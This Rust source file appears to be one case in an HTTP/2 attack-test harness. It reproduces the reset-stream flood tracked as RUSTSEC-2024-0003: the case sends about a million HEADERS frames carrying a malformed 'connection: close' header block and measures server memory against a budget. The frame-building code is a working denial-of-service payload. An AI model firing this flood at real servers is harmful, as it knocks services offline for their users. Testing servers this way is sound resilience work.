//! Headers that are no request (RUSTSEC-2024-0003): streams that the server must reset itself.

use super::hold_floods;
use crate::attacker::Attacker;
use crate::case::{Attack, Budgets, Case};
use crate::frames::{END_HEADERS, HEADERS, frame};

/// A header of connections, which no stream may have, after a method and a scheme.
const BLOCK: &[u8] = b"\x83\x86\x00\x0aconnection\x05close";

pub(super) struct MalformedHeaders;

impl Case for MalformedHeaders {
    fn name(&self) -> &'static str {
        "malformed-headers"
    }

    fn does(&self) -> &'static str {
        "opens streams with headers that are no request, a million in all"
    }

    // Streams that were reset and are not gone yet, of at most 16 KiB each.
    fn budget(&self, budgets: &Budgets<'_>) -> u64 {
        budgets.bytes("server.max_local_error_reset_streams", 1_024) * (16 << 10)
    }

    fn run<'a>(&'a self, attacker: &'a Attacker) -> Attack<'a> {
        Box::pin(hold_floods(attacker, &[], |out, number| {
            frame(out, HEADERS, END_HEADERS, 2 * number + 1, BLOCK);
        }))
    }
}
